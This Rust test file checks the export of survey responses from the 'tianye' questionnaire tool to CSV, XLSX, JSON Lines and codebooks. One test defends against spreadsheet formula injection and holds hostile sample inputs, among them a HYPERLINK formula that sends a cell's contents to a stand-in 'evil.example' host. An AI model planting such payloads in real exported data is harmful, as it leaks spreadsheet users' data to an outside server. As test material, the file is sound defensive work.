//! Exports, round-tripped: the bundled questionnaires' valid cases are uploaded over
//! HTTP, exported as CSV (CLI), XLSX (CLI and admin API) and JSON Lines, and read back
//! (csv, calamine); every cleaned answer must come back, including repeat rows and
//! Chinese text. A questionnaire with two versions keeps the columns of both.

use std::collections::{BTreeMap, HashMap};
use std::io::Cursor;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook, open_workbook_from_rs};
use serde_json::{Value, json};
use tianye_tests::server::{
    Backend, Data as DataDir, Server, client, fixture_forms, get, household_response,
    new_instance_id, read_csv, team_token, temp_dir, tianye, upload,
};
use tianye_tests::{bundled_forms, repo};

/// A table as read back: header, then rows of text.
type Table = Vec<Vec<String>>;

fn data_text(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Bool(b) => b.to_string(),
        other => other.to_string(),
    }
}

fn sheets<R: std::io::Read + std::io::Seek>(wb: &mut Xlsx<R>) -> BTreeMap<String, Table> {
    let names = wb.sheet_names().clone();
    names
        .into_iter()
        .map(|name| {
            let range = wb.worksheet_range(&name).expect("sheet");
            let rows = range.rows().map(|r| r.iter().map(data_text).collect()).collect();
            (name, rows)
        })
        .collect()
}

/// How the export writes a cleaned answer.
fn expected_text(v: Option<&Value>) -> String {
    match v {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(Value::Number(n)) => n.to_string(),
        Some(Value::Bool(b)) => b.to_string(),
        Some(Value::Array(items)) => items
            .iter()
            .map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_owned))
            .collect::<Vec<_>>()
            .join(" "),
        // An attachment: the file in the export's media folder (the instance id is
        // prefixed by the caller).
        Some(Value::Object(m)) if m.contains_key("sha256") => {
            m["file"].as_str().unwrap_or_default().to_owned()
        }
        Some(Value::Object(m)) => ["lat", "lon", "altitude", "accuracy"]
            .iter()
            .filter_map(|k| m.get(*k))
            .map(Value::to_string)
            .collect::<Vec<_>>()
            .join(" "),
    }
}

/// Checks that `table` (the main table, or the repeat `repeat`'s) holds exactly the
/// answers of `answers_by_id` (the cleaned answers exported as JSON Lines).
fn check_table(table: &Table, repeat: Option<&str>, answers_by_id: &HashMap<String, Value>) {
    let header = &table[0];
    let col = |name: &str| header.iter().position(|h| h == name);
    let id_col = col("instance_id").expect("instance_id column");
    let mut seen = 0;
    for row in &table[1..] {
        let answers = &answers_by_id[&row[id_col]];
        let obj = match repeat {
            None => answers,
            Some(r) => {
                let n: usize = row[col("row").expect("row column")].parse().unwrap();
                &answers[r][n - 1]
            }
        };
        seen += 1;
        for (h, cell) in header.iter().zip(row) {
            if ["instance_id", "row", "parent_row"].contains(&h.as_str())
                || (repeat.is_none() && col(h) < col("review_comment").map(|c| c + 1))
            {
                continue;
            }
            // No file was uploaded: every file the answers name is missing. (Top-level
            // attachments only: the bundled questionnaires have none in rosters.)
            if h == "attachments_missing" {
                let names: Vec<&str> = answers
                    .as_object()
                    .unwrap()
                    .values()
                    .filter_map(|v| v.get("sha256").and(v.get("file")).and_then(Value::as_str))
                    .collect();
                assert_eq!(cell, &names.join(" "), "column {h} of {row:?}");
                continue;
            }
            let expected = match h.split_once('/') {
                Some((q, choice)) => match obj.get(q) {
                    Some(Value::Array(items)) => {
                        if items.iter().any(|i| i == choice) { "1" } else { "0" }.to_owned()
                    }
                    _ => String::new(),
                },
                None => match obj.get(h) {
                    Some(Value::Array(rows)) if rows.iter().all(Value::is_object) => {
                        rows.len().to_string()
                    }
                    Some(v) if v.get("sha256").is_some() => {
                        format!("media/{}/{}", row[id_col], expected_text(Some(v)))
                    }
                    other => expected_text(other),
                },
            };
            assert_eq!(cell, &expected, "column {h} of {row:?}");
        }
        // Nothing answered is missing from the table.
        for (name, value) in obj.as_object().unwrap() {
            let is_rows =
                matches!(value, Value::Array(r) if !r.is_empty() && r.iter().all(Value::is_object));
            assert!(is_rows || col(name).is_some(), "answer {name} has no column in {header:?}");
        }
    }
    let expected_rows: usize = match repeat {
        None => answers_by_id.len(),
        Some(r) => answers_by_id.values().map(|a| a[r].as_array().map_or(0, Vec::len)).sum(),
    };
    assert_eq!(seen, expected_rows, "rows of {}", repeat.unwrap_or("main"));
}

fn valid_cases(form: &Path) -> Vec<Value> {
    let mut out = Vec::new();
    let dir = form.parent().unwrap().join("cases");
    let mut files: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().map(|e| e.path()).collect();
    files.sort();
    for f in files {
        let case: Value = serde_json::from_str(&std::fs::read_to_string(&f).unwrap()).unwrap();
        let empty = case["expected"]["problems"].as_array().is_some_and(Vec::is_empty);
        if empty && case["response"]["status"] == "complete" {
            out.push(case["response"].clone());
        }
    }
    out
}

/// The cleaned answers of every submission to questionnaire `id` in the data folder
/// `dir`, by `instance_id`, as `tianye export --format jsonl` writes them.
fn cleaned_answers(dir: &str, id: &str) -> HashMap<String, Value> {
    let (code, out, err) = tianye(&["export", "--data", dir, id, "--format", "jsonl", "-o", "-"]);
    assert_eq!(code, 0, "{err}");
    out.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|l| (l["instance_id"].as_str().unwrap().to_owned(), l["answers"].clone()))
        .collect()
}

/// `tianye export --data DIR FORM --format FORMAT -o PATH`, which must succeed.
fn export_file(dir: &str, form: &str, format: &str, path: &std::path::Path) {
    let (code, _, err) =
        tianye(&["export", "--data", dir, form, "--format", format, "-o", path.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
}

/// Like [`export_file`], from `data` on its backend.
fn export_in(data: &DataDir, form: &str, format: &str, path: &std::path::Path) {
    let (code, _, err) =
        data.tianye(&["export", form, "--format", format, "-o", path.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
}

#[test]
fn bundled_valid_cases_round_trip_through_csv_xlsx_and_jsonl() {
    let forms = bundled_forms();
    assert!(forms.len() >= 3, "bundled questionnaires missing");
    let data = temp_dir("tianye-export-bundled");
    let dir = data.path().to_str().unwrap();
    // The bundled questionnaires, plus a second version of lbc_household with one more
    // question, so its export spans two versions.
    let forms_dir = temp_dir("tianye-export-forms");
    for form in &forms {
        let name = form.parent().unwrap().file_name().unwrap();
        std::fs::create_dir_all(forms_dir.path().join(name).join("media")).unwrap();
        std::fs::copy(form, forms_dir.path().join(name).join("form.json")).unwrap();
        // Its choice files (the screening register's villages).
        let media = form.parent().unwrap().join("media");
        for file in std::fs::read_dir(media).into_iter().flatten().flatten() {
            std::fs::copy(
                file.path(),
                forms_dir.path().join(name).join("media").join(file.file_name()),
            )
            .unwrap();
        }
    }
    let mut next: Value = serde_json::from_str(
        &std::fs::read_to_string(repo().join("questionnaires/lbc_household/form.json")).unwrap(),
    )
    .unwrap();
    next["version"] = json!("2026.4");
    next["items"].as_array_mut().unwrap().push(json!({
        "type": "text", "name": "followup_note", "label": {"zh": "回访备注", "en": "Follow-up note"}
    }));
    std::fs::create_dir_all(forms_dir.path().join("lbc_household_next")).unwrap();
    std::fs::write(forms_dir.path().join("lbc_household_next/form.json"), next.to_string())
        .unwrap();
    let server = Server::start(data.path(), &["--forms", forms_dir.path().to_str().unwrap()]);
    let admin = server.admin_token.clone().unwrap();
    let token = team_token(data.path(), "龙回一队");
    let http = client();
    for form in &forms {
        let q: Value = serde_json::from_str(&std::fs::read_to_string(form).unwrap()).unwrap();
        let id = q["id"].as_str().unwrap();
        let mut cases = valid_cases(form);
        assert!(!cases.is_empty(), "{id} has no valid case");
        if id == "lbc_household" {
            let newer: Vec<Value> = cases
                .iter()
                .map(|c| {
                    let mut c = c.clone();
                    c["instance_id"] = json!(new_instance_id());
                    c["questionnaire"]["version"] = json!("2026.4");
                    c["answers"]["followup_note"] = json!("九月回访：孩子住校");
                    c
                })
                .collect();
            cases.extend(newer);
        }
        for case in &cases {
            let (status, reply) = upload(&http, &server.url, Some(&token), &case.to_string());
            assert_eq!(status, 201, "{id}: {reply}");
        }

        // JSON Lines: the cleaned answers, which the tables must reproduce.
        let answers_by_id = cleaned_answers(dir, id);
        assert_eq!(answers_by_id.len(), cases.len());
        for case in &cases {
            let got = &answers_by_id[case["instance_id"].as_str().unwrap()];
            // Chinese text comes back unchanged.
            for (k, v) in case["answers"].as_object().unwrap() {
                if let (Value::String(s), Some(Value::String(g))) = (v, got.get(k)) {
                    assert_eq!(s, g, "{id}: {k}");
                }
            }
        }

        // CSV through the CLI: the main table plus one file per repeat.
        let csv_path = data.path().join(format!("{id}.csv"));
        export_file(dir, id, "csv", &csv_path);
        let main = read_csv(&std::fs::read(&csv_path).unwrap());
        check_table(&main, None, &answers_by_id);
        if id == "lbc_household" {
            // Both versions in one table: the new question's column, filled for 2026.4 only.
            let col = main[0].iter().position(|h| h == "followup_note").expect("new column");
            let version = main[0].iter().position(|h| h == "version").unwrap();
            for row in &main[1..] {
                let filled = !row[col].is_empty();
                assert_eq!(filled, row[version] == "2026.4", "{row:?}");
            }
        }
        let is_rows = |v: &Value| {
            v.as_array().is_some_and(|r| !r.is_empty() && r.iter().all(Value::is_object))
        };
        let repeats: Vec<String> = main[0]
            .iter()
            .filter(|h| answers_by_id.values().any(|a| is_rows(&a[h.as_str()])))
            .cloned()
            .collect();
        let mut csv_tables = BTreeMap::from([(id.to_owned(), main)]);
        for r in &repeats {
            let file = data.path().join(format!("{id}-{r}.csv"));
            let table = read_csv(&std::fs::read(&file).unwrap());
            check_table(&table, Some(r), &answers_by_id);
            csv_tables.insert(r.clone(), table);
        }

        // XLSX through the CLI and through the admin API: the same tables, sheet by sheet.
        let xlsx_path = data.path().join(format!("{id}.xlsx"));
        export_file(dir, id, "xlsx", &xlsx_path);
        let mut wb: Xlsx<_> = open_workbook(&xlsx_path).unwrap();
        let from_cli = sheets(&mut wb);
        let (status, bytes) = get(
            &http,
            &server.at(&format!("/api/v1/questionnaires/{id}/export.xlsx")),
            Some(&admin),
        );
        assert_eq!(status, 200);
        let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
        let from_api = sheets(&mut wb);
        assert_eq!(from_cli, from_api);
        for (name, table) in &csv_tables {
            let sheet = &from_cli[name];
            assert_eq!(sheet.len(), table.len(), "{id}/{name}");
            for (s, c) in sheet.iter().zip(table) {
                // Trailing empty cells are not stored in a sheet.
                let mut s = s.clone();
                s.resize(c.len(), String::new());
                assert_eq!(&s, c, "{id}/{name}");
            }
        }

        // CSV through the API is the CLI's file, byte for byte.
        let (status, bytes) = get(
            &http,
            &server.at(&format!("/api/v1/questionnaires/{id}/export.csv")),
            Some(&admin),
        );
        assert_eq!(status, 200);
        assert_eq!(bytes, std::fs::read(&csv_path).unwrap());
    }
}

fn two_versions_keep_every_column_labels_and_codebook(backend: Backend) {
    let data = DataDir::new(backend, "tianye-export-versions");
    let forms = fixture_forms();
    let server = data.serve(&["--forms", forms.to_str().unwrap()]);
    let admin = server.admin_token.clone().unwrap();
    let token = data.team_token("一队");
    let http = client();
    let v1 = household_response(&new_instance_id(), "1", 3);
    let v2 = household_response(&new_instance_id(), "2", 2);
    for r in [&v1, &v2] {
        assert_eq!(upload(&http, &server.url, Some(&token), &r.to_string()).0, 201);
    }

    let out = data.path().join("hh.csv");
    export_in(&data, "household", "csv", &out);
    let main = read_csv(&std::fs::read(&out).unwrap());
    let header: Vec<&str> = main[0].iter().map(String::as_str).collect();
    assert_eq!(
        header,
        [
            "instance_id",
            "version",
            "team",
            "enumerator",
            "device_id",
            "started_at",
            "submitted_at",
            "received_at",
            "review_state",
            "review_comment",
            "village",
            "township",
            "head_sex",
            "income",
            "income/farm",
            "income/wage",
            "income/pension",
            "income/none",
            "hh_size",
            "old_note",
            "svc_school",
            "svc_clinic",
            "member",
            "n_members",
        ]
    );
    let col = |h: &str| header.iter().position(|x| *x == h).unwrap();
    let row1 = &main[1];
    let row2 = &main[2];
    assert_eq!((row1[col("version")].as_str(), row2[col("version")].as_str()), ("1", "2"));
    assert_eq!(row1[col("old_note")], "旧版备注");
    assert_eq!(row1[col("township")], "");
    assert_eq!(row2[col("township")], "小沙江镇");
    assert_eq!(row2[col("old_note")], "");
    assert_eq!(row1[col("team")], "一队");
    assert_eq!(row1[col("enumerator")], "李明");
    assert_eq!(row1[col("income")], "farm wage");
    assert_eq!(
        [&row1[col("income/farm")], &row1[col("income/wage")], &row1[col("income/pension")]],
        ["1", "1", "0"]
    );
    assert_eq!(row2[col("income/pension")], "1");
    assert_eq!((row1[col("member")].as_str(), row1[col("n_members")].as_str()), ("3", "3"));

    let member = read_csv(&std::fs::read(data.path().join("hh-member.csv")).unwrap());
    assert_eq!(
        member[0],
        ["instance_id", "row", "m_name", "m_age", "m_sex", "m_school", "m_left_behind"]
    );
    assert_eq!(member.len(), 1 + 3 + 2);
    assert_eq!(member[1][..4], [v1["instance_id"].as_str().unwrap(), "1", "成员1", "5"]);
    // Schooling is asked under 18 only: empty for the 27-year-old.
    assert_eq!(member[2][5], "石门小学");
    assert_eq!(member[3][5], "");
    assert_eq!(member[4][6], "1");

    // Labels instead of names, in Chinese and in English.
    let (code, text, err) =
        data.tianye(&["export", "household", "--format", "csv", "--labels", "-o", "-"]);
    assert_eq!(code, 0, "{err}");
    let labelled = read_csv(text.as_bytes());
    assert_eq!(labelled[1][col("head_sex")], "女");
    assert_eq!(labelled[1][col("income")], "务农; 外出务工");
    assert_eq!(labelled[1][col("income/farm")], "1");
    let (code, bytes) = get(
        &http,
        &server.at("/api/v1/questionnaires/household/export.csv?labels=1&lang=en&table=member"),
        Some(&admin),
    );
    assert_eq!(code, 200);
    let member_en = read_csv(&bytes);
    assert_eq!(member_en[1][4], "Male");

    // The codebook: every column, labels in both languages, choices with codes.
    let book = data.path().join("book.csv");
    export_in(&data, "household", "codebook", &book);
    let rows = read_csv(&std::fs::read(&book).unwrap());
    assert_eq!(
        rows[0],
        [
            "table",
            "variable",
            "label_zh",
            "label_en",
            "type",
            "choices",
            "relevant",
            "constraint",
            "required",
            "calculation",
            "versions",
        ]
    );
    let find = |v: &str| rows.iter().find(|r| r[1] == v).unwrap_or_else(|| panic!("{v}"));
    assert_eq!(
        find("head_sex")[2..6],
        ["户主性别", "Sex of head", "select_one", "1=男 / Male; 2=女 / Female"]
    );
    assert_eq!(find("old_note")[10], "1");
    assert_eq!(find("township")[10], "2");
    assert_eq!(find("village")[10], "1 2");
    assert_eq!(find("m_school")[0], "member");
    assert_eq!(find("m_school")[6], "${m_age} < 18");
    assert_eq!(find("hh_size")[7], "min=1; max=30");
    assert_eq!(find("n_members")[9], "count(${member})");
    assert_eq!(find("income/pension")[2], "收入来源：养老金");
    // One row per column of each table, then the note on CSV text.
    assert_eq!(rows.len() - 2, header.len() + member[0].len());
    assert_eq!(rows.last().unwrap()[4], "note");
    let (code, bytes) =
        get(&http, &server.at("/api/v1/questionnaires/household/codebook.xlsx"), Some(&admin));
    assert_eq!(code, 200);
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let book_sheet = &sheets(&mut wb)["codebook"];
    assert_eq!(book_sheet.len(), rows.len());

    // Export errors name the problem.
    let (code, _, err) = data.tianye(&["export", "nope", "--format", "csv"]);
    assert_eq!(code, 2);
    assert!(err.contains("nope") && err.contains("household"), "{err}");
    let (code, bytes) = get(
        &http,
        &server.at("/api/v1/questionnaires/household/export.csv?table=nope"),
        Some(&admin),
    );
    assert_eq!(code, 404);
    assert_eq!(serde_json::from_slice::<Value>(&bytes).unwrap()["code"], "export.unknown_table");
}

/// Text a spreadsheet would run as a formula, one per dangerous first character.
const FORMULAS: [&str; 6] = [
    r#"=HYPERLINK("http://evil.example/?"&C2,"x")"#,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
];

/// A questionnaire whose text, numbers, repeat rows, labels and expressions can all
/// hold what a spreadsheet would run.
fn formula_form() -> Value {
    json!({
        "id": "inject",
        "version": "1",
        "title": {"zh": "公式注入（测试）", "en": "Formula injection (test)"},
        "items": [
            {"type": "text", "name": "note", "label": {"zh": "=HYPERLINK(\"http://evil.example\",\"备注\")", "en": "Note"}},
            {"type": "integer", "name": "n", "label": {"zh": "整数", "en": "Integer"}},
            {"type": "decimal", "name": "x", "label": {"zh": "小数", "en": "Decimal"}},
            {"type": "calculate", "name": "neg", "calculation": "-${n}"},
            {"type": "repeat", "name": "kid", "label": {"zh": "孩子", "en": "Children"}, "items": [
                {"type": "text", "name": "kname", "label": {"zh": "姓名", "en": "Name"}, "relevant": "-${n} > 0"}
            ]}
        ]
    })
}

fn formula_response(note: &str, enumerator: &str, n: i64, x: f64, kname: &str) -> Value {
    json!({
        "instance_id": new_instance_id(),
        "questionnaire": {"id": "inject", "version": "1"},
        "status": "complete",
        "answers": {"note": note, "n": n, "x": x, "kid": [{"kname": kname}]},
        "meta": {
            "started_at": "2026-07-01T09:30:00+08:00",
            "submitted_at": "2026-07-01T09:45:00+08:00",
            "enumerator": enumerator
        }
    })
}

/// The rows of CSV `bytes`, keyed by the text of column `key` (as `written`).
fn by_column(table: &Table, key: &str) -> HashMap<String, Vec<String>> {
    let col = table[0].iter().position(|h| h == key).unwrap_or_else(|| panic!("{key}"));
    table[1..].iter().map(|r| (r[col].clone(), r.clone())).collect()
}

#[test]
fn csv_text_a_spreadsheet_would_run_gets_a_quote_unless_raw_and_numbers_stay_numbers() {
    let data = temp_dir("tianye-export-formulas");
    let dir = data.path().to_str().unwrap();
    let forms = temp_dir("tianye-export-formulas-form");
    std::fs::write(forms.path().join("form.json"), formula_form().to_string()).unwrap();
    let server = Server::start(data.path(), &["--forms", forms.path().to_str().unwrap()]);
    let admin = server.admin_token.clone().unwrap();
    let http = client();
    // One response per dangerous text: in a text answer and in a repeat row's answer
    // (every one), in meta.enumerator and in the team name (no tab or CR there: a team
    // name has no control characters). Numbers are negative.
    for (i, f) in FORMULAS.iter().enumerate() {
        let printable = !f.starts_with(['\t', '\r']);
        let team = if printable { (*f).to_owned() } else { format!("队{i}") };
        let enumerator = if printable { (*f).to_owned() } else { format!("调查员{i}") };
        let token = token_for(dir, &team);
        let r = formula_response(f, &enumerator, -3 - i as i64, -2.5, f);
        let (status, reply) = upload(&http, &server.url, Some(&token), &r.to_string());
        assert_eq!(status, 201, "{f:?}: {reply}");
    }
    // A text answer that is a plain negative number is left as it is.
    let token = token_for(dir, "一队");
    let plain = formula_response("-5", "李明", -7, 0.5, "-5");
    assert_eq!(upload(&http, &server.url, Some(&token), &plain.to_string()).0, 201);

    let quoted = |f: &str| format!("'{f}");
    let export = |query: &str| {
        let (status, bytes) = get(
            &http,
            &server.at(&format!("/api/v1/questionnaires/inject/export.csv{query}")),
            Some(&admin),
        );
        assert_eq!(status, 200, "{query}");
        read_csv(&bytes)
    };

    // Over HTTP and through the CLI, the same neutralised files.
    let main = export("");
    let kids = export("?table=kid");
    let csv_path = data.path().join("inject.csv");
    export_file(dir, "inject", "csv", &csv_path);
    assert_eq!(read_csv(&std::fs::read(&csv_path).unwrap()), main);
    assert_eq!(read_csv(&std::fs::read(data.path().join("inject-kid.csv")).unwrap()), kids);
    let col = |h: &str| main[0].iter().position(|x| x == h).unwrap();
    let notes = by_column(&main, "note");
    assert_eq!(notes.len(), FORMULAS.len() + 1);
    for (i, f) in FORMULAS.iter().enumerate() {
        let row = &notes[&quoted(f)];
        let printable = !f.starts_with(['\t', '\r']);
        if printable {
            assert_eq!(row[col("team")], quoted(f));
            assert_eq!(row[col("enumerator")], quoted(f));
        }
        // Numbers answered to number questions, and calculated, stay numbers.
        assert_eq!(row[col("n")], (-3 - i as i64).to_string());
        assert_eq!(row[col("x")], "-2.5");
        assert_eq!(row[col("neg")], (3 + i).to_string());
    }
    let plain_row = &notes["-5"];
    assert_eq!((plain_row[col("team")].as_str(), plain_row[col("n")].as_str()), ("一队", "-7"));
    let knames = by_column(&kids, "kname");
    for f in FORMULAS {
        assert!(knames.contains_key(&quoted(f)), "{f:?} in {knames:?}");
    }
    assert!(knames.contains_key("-5"));

    // Raw: every cell as it was written, for tools that read CSV as data.
    let raw = export("?raw=1");
    let (code, out, err) =
        tianye(&["export", "--data", dir, "inject", "--format", "csv", "--raw-csv", "-o", "-"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(read_csv(out.as_bytes()), raw);
    let raw_notes = by_column(&raw, "note");
    for f in FORMULAS {
        assert!(raw_notes.contains_key(f), "{f:?}");
    }
    assert_eq!(raw_notes["+1+1"][col("team")], "+1+1");
    let raw_kids = by_column(&export("?table=kid&raw=1"), "kname");
    assert!(FORMULAS.iter().all(|f| raw_kids.contains_key(*f)));
    let (code, _, err) =
        tianye(&["export", "--data", dir, "inject", "--format", "xlsx", "--raw-csv"]);
    assert_eq!(code, 2);
    assert!(err.contains("--raw-csv"), "{err}");

    // The codebook: labels and expressions are text like any other, and it says so.
    let (status, bytes) =
        get(&http, &server.at("/api/v1/questionnaires/inject/codebook.csv"), Some(&admin));
    assert_eq!(status, 200);
    let book = read_csv(&bytes);
    let book_path = data.path().join("book.csv");
    export_file(dir, "inject", "codebook", &book_path);
    assert_eq!(read_csv(&std::fs::read(&book_path).unwrap()), book);
    let find = |rows: &Table, v: &str| rows.iter().find(|r| r[1] == v).unwrap().clone();
    assert_eq!(find(&book, "note")[2], "'=HYPERLINK(\"http://evil.example\",\"备注\")");
    assert_eq!(find(&book, "neg")[9], "'-${n}");
    assert_eq!(find(&book, "kname")[6], "'-${n} > 0");
    let note = book.last().unwrap();
    assert_eq!(note[4], "note");
    assert!(note[2].contains("tianye export --raw-csv") && note[3].contains("?raw=1"), "{note:?}");
    let (status, bytes) =
        get(&http, &server.at("/api/v1/questionnaires/inject/codebook.csv?raw=1"), Some(&admin));
    assert_eq!(status, 200);
    let raw_book = read_csv(&bytes);
    assert_eq!(find(&raw_book, "neg")[9], "-${n}");
    let (code, out, err) = tianye(&[
        "export",
        "--data",
        dir,
        "inject",
        "--format",
        "codebook",
        "--raw-csv",
        "-o",
        "-",
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(read_csv(out.as_bytes()), raw_book);

    // XLSX keeps the text as it is, as a string, never a formula.
    let xlsx_path = data.path().join("inject.xlsx");
    export_file(dir, "inject", "xlsx", &xlsx_path);
    let (status, bytes) =
        get(&http, &server.at("/api/v1/questionnaires/inject/export.xlsx"), Some(&admin));
    assert_eq!(status, 200);
    strings_not_formulas(&mut open_workbook_from_rs(Cursor::new(bytes)).unwrap());
    strings_not_formulas(&mut open_workbook(&xlsx_path).unwrap());
}

/// `tianye token create --team=TEAM` (the `=` form, as a team name may start with `-`).
fn token_for(dir: &str, team: &str) -> String {
    let (code, out, err) = tianye(&["token", "create", "--data", dir, &format!("--team={team}")]);
    assert_eq!(code, 0, "{team:?}: {out}{err}");
    out.lines().last().expect("token line").trim().to_owned()
}

/// The XLSX export of `inject`: text written as it is, as strings; numbers as numbers;
/// no cell holds a formula.
fn strings_not_formulas<R: std::io::Read + std::io::Seek>(wb: &mut Xlsx<R>) {
    for name in wb.sheet_names() {
        let formulas = wb.worksheet_formula(&name).expect("formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} has formulas");
    }
    let main = wb.worksheet_range("inject").expect("main sheet");
    let header: Vec<String> = main.rows().next().unwrap().iter().map(data_text).collect();
    let col = |h: &str| header.iter().position(|x| x == h).unwrap();
    let texts: Vec<&Data> = main.rows().skip(1).map(|r| &r[col("note")]).collect();
    for f in FORMULAS {
        assert!(texts.contains(&&Data::String(f.to_owned())), "{f:?} in {texts:?}");
    }
    assert!(main.rows().skip(1).all(|r| matches!(r[col("n")], Data::Float(v) if v < 0.0)));
    let kid = wb.worksheet_range("kid").expect("kid sheet");
    let knames: Vec<&Data> = kid.rows().skip(1).map(|r| &r[2]).collect();
    assert!(knames.contains(&&Data::String("-2+3".to_owned())), "{knames:?}");
}

/// A two-level nested roster (each child's check in each school term, the test
/// questionnaire `term_checks`) exported as CSV: the inner table's `parent_row` names the
/// outer row, so the nesting rebuilt from the three tables is exactly the cleaned answers;
/// a child with no checks has no inner rows, and a hidden item has its column.
#[test]
fn nested_rosters_are_rebuilt_from_parent_row() {
    let form = repo().join("tests/fixtures/questionnaires/term_checks/form.json");
    let data = temp_dir("tianye-export-nested");
    let dir = data.path().to_str().unwrap();
    let forms_dir = temp_dir("tianye-export-nested-forms");
    std::fs::create_dir_all(forms_dir.path().join("term_checks")).unwrap();
    std::fs::copy(&form, forms_dir.path().join("term_checks/form.json")).unwrap();
    let server = Server::start(data.path(), &["--forms", forms_dir.path().to_str().unwrap()]);
    let token = team_token(data.path(), "龙回一队");
    let http = client();

    let first = valid_cases(&form).into_iter().next().expect("a valid term_checks case");
    // Three children: none, two and one checks, so inner rows of the third child must
    // not be read as the second's.
    let term = |name: &str, h: f64, w: f64| json!({"t_name": name, "t_time": "10:00", "t_height": h, "t_weight": w});
    let mut second = first.clone();
    second["instance_id"] = json!(new_instance_id());
    second["answers"]["n_children"] = json!(3);
    second["answers"]["child"] = json!([
        {"c_name": "王小丫", "c_dob": "2021-02-01", "c_terms": 0, "term": []},
        {"c_name": "王大宝", "c_dob": "2014-06-10", "c_terms": 2,
         "term": [term("2025 秋", 140.0, 33.5), term("2026 春", 143.0, 35.0)]},
        {"c_name": "王二宝", "c_dob": "2016-09-30", "c_terms": 1, "term": [term("2026 春", 126.0, 24.0)]}
    ]);
    for response in [&first, &second] {
        let (status, reply) = upload(&http, &server.url, Some(&token), &response.to_string());
        assert_eq!(status, 201, "{reply}");
    }

    let cleaned = cleaned_answers(dir, "term_checks");
    assert_eq!(cleaned.len(), 2);

    let csv_path = data.path().join("term_checks.csv");
    export_file(dir, "term_checks", "csv", &csv_path);
    let main = read_csv(&std::fs::read(&csv_path).unwrap());
    let child = read_csv(&std::fs::read(data.path().join("term_checks-child.csv")).unwrap());
    let term_table = read_csv(&std::fs::read(data.path().join("term_checks-term.csv")).unwrap());
    assert_eq!(&term_table[0][..3], ["instance_id", "parent_row", "row"], "{:?}", term_table[0]);
    assert_eq!(&child[0][..2], ["instance_id", "row"], "{:?}", child[0]);

    // The hidden item is a column of the main table, with each response's value.
    let variant = main[0].iter().position(|h| h == "form_variant").expect("hidden column");
    assert!(main[1..].iter().all(|r| r[variant] == "B"), "{main:?}");

    // Rebuild each response's children, and each child's checks, from the keys alone.
    let col = |t: &Table, name: &str| t[0].iter().position(|h| h == name).unwrap();
    let record = |t: &Table, row: &[String], skip: &[&str]| -> serde_json::Map<String, Value> {
        t[0].iter()
            .zip(row)
            .filter(|(h, v)| !skip.contains(&h.as_str()) && !v.is_empty())
            .map(|(h, v)| (h.clone(), Value::String(v.clone())))
            .collect()
    };
    let mut rebuilt: BTreeMap<String, Vec<serde_json::Map<String, Value>>> = BTreeMap::new();
    for row in &child[1..] {
        let n: usize = row[col(&child, "row")].parse().unwrap();
        let list = rebuilt.entry(row[0].clone()).or_default();
        assert_eq!(list.len() + 1, n, "child rows in order, numbered from 1: {row:?}");
        list.push(record(&child, row, &["instance_id", "row", "term"]));
    }
    for row in &term_table[1..] {
        let parent: usize = row[col(&term_table, "parent_row")].parse().expect("a child's row");
        let n: usize = row[col(&term_table, "row")].parse().unwrap();
        let owner = &mut rebuilt.get_mut(&row[0]).expect("a known response")[parent - 1];
        let terms = owner.entry("term").or_insert_with(|| json!([]));
        let terms = terms.as_array_mut().unwrap();
        assert_eq!(terms.len() + 1, n, "check rows numbered from 1 within their child: {row:?}");
        terms.push(Value::Object(record(&term_table, row, &["instance_id", "parent_row", "row"])));
    }
    for (id, answers) in &cleaned {
        let children = answers["child"].as_array().unwrap();
        let got = &rebuilt[id];
        assert_eq!(got.len(), children.len(), "{id}");
        for (c, (want, got)) in children.iter().zip(got).enumerate() {
            let want_terms = want["term"].as_array().unwrap();
            let got_terms = got.get("term").and_then(Value::as_array).cloned().unwrap_or_default();
            assert_eq!(got_terms.len(), want_terms.len(), "{id} child {c}");
            for (w, g) in want_terms.iter().zip(&got_terms) {
                for (k, v) in w.as_object().unwrap() {
                    assert_eq!(
                        g[k].as_str().unwrap_or_default(),
                        expected_text(Some(v)),
                        "{id} child {c} {k}"
                    );
                }
            }
            for (k, v) in want.as_object().unwrap().iter().filter(|(k, _)| *k != "term") {
                let cell = got.get(k).and_then(Value::as_str).unwrap_or_default();
                assert_eq!(cell, expected_text(Some(v)), "{id} child {c} {k}");
            }
            // The outer row counts its inner rows.
            let count = &child[1 + rebuilt_index(&child, id, c)][col(&child, "term")];
            assert_eq!(count, &want_terms.len().to_string(), "{id} child {c}");
        }
    }
    let inner_rows: usize = cleaned
        .values()
        .flat_map(|a| a["child"].as_array().unwrap())
        .map(|c| c["term"].as_array().unwrap().len())
        .sum();
    assert_eq!(term_table.len() - 1, inner_rows);
    assert_eq!(inner_rows, 6, "3 checks in each response");
}

/// The index (among the data rows) of response `id`'s row `c` (from 0) in a repeat table.
fn rebuilt_index(table: &Table, id: &str, c: usize) -> usize {
    let row = table[0].iter().position(|h| h == "row").unwrap();
    table[1..]
        .iter()
        .position(|r| r[0] == id && r[row] == (c + 1).to_string())
        .unwrap_or_else(|| panic!("no row {} of {id}", c + 1))
}

tianye_tests::on_both_backends!(two_versions_keep_every_column_labels_and_codebook);
